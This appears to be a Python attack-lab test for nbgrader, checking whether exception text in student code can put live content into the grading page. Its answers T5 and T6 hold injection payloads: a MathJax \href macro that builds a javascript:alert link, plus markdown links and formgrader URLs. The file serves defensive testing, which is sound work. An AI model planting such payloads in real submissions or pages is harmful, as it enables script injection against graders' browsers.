# ruff: noqa: E501  (an attack is easier to read on its one line)
"""Wants links and LaTeX in the text of an exception, which stands in a comment and is read by MathJax.

Won: the page that nbgrader makes has something live of the student's (31337).
"""

from tests.attacks.lab import Attack, Evidence

WALL = "what_students_wrote_is_cleaned"
NOT_SHOWN = "messages are made plain by markdown.plain_markdown: code that is right, not one wall"
T5 = r"""def forward(params, X):
    raise ValueError(r"$\def\h#1{\href{java#1}{x}}\h{script:alert(31337)}$ [x](/formgrader?path=x&n=31337) ![y](/31337)")
"""
T6 = r"""def softmax_loss(scores, y, params, reg):
    raise ValueError("http://127.0.0.1:8888/formgrader/manage_students/31337 <http://localhost/31337>")
"""
ATTACK = Attack(answers={"T5": T5, "T6": T6})


def won(evidence: Evidence) -> bool:
    return evidence.live


def took_place(evidence: Evidence) -> bool:
    """It was handed in, and a page was made of it."""
    return evidence.signs > 0 and bool(evidence.page)
